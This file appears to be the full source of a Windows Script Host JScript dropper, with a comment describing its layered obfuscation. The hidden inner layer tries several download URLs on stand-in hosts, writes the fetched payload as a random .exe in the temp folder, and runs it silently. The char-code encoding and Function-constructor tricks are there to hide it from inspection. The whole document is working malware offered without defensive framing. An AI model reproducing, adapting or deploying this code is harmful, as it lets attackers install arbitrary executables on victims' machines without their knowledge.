/* Layer 0: a decoder that builds layer 1 with String.fromCharCode and runs
   it through the Function constructor; layer 1 evals layer 2, which holds
   the dropper. The URL list is assembled from array joins and tried in a
   try/catch loop, so the first (failing) download must not stop it. */
var k = [102,117,110,99,116,105,111,110];
function d(s, o) { var r = []; for (var i = 0; i < s.length; i++) { r.push(String.fromCharCode(s[i] - o)); } return r.join(""); }
var layer2 = [
  "var u = [['h','t','t','p',':','/','/','d','l','1','.','b','a','d','-','h','o','s','t','.','t','e','s','t','/','a','.','b','i','n'].join(''),",
  "         ['http://', '198.51.100.23', '/b', '.bin'].join(''),",
  "         'http://' + 'mirror.bad-host.test' + '/c.bin'];",
  "var fso = new ActiveXObject('Scripting.FileSystemObject');",
  "var p = fso.GetSpecialFolder(2) + '\\\\' + fso.GetTempName() + '.exe';",
  "for (var i = 0; i < u.length; i++) {",
  "  try {",
  "    var x = new ActiveXObject('MSXML2.ServerXMLHTTP.6.0');",
  "    x.open('GET', u[i], false); x.send();",
  "    if (x.status != 200) continue;",
  "    var st = new ActiveXObject('ADODB.Stream'); st.open(); st.type = 1;",
  "    st.write(x.responseBody); st.saveToFile(p, 2); st.close();",
  "    new ActiveXObject('WScript.Shell').run('\"' + p + '\"', 0);",
  "    break;",
  "  } catch (e) { }",
  "}"
].join("\n");
var enc = [];
for (var i = 0; i < layer2.length; i++) { enc.push(layer2.charCodeAt(i) + 7); }
var layer1 = "eval(" + d(k, 0) + "(){ return d(" + JSON.stringify(enc) + ", 7); }())";
var F = (function(){}).constructor;
F("d", layer1)(d);
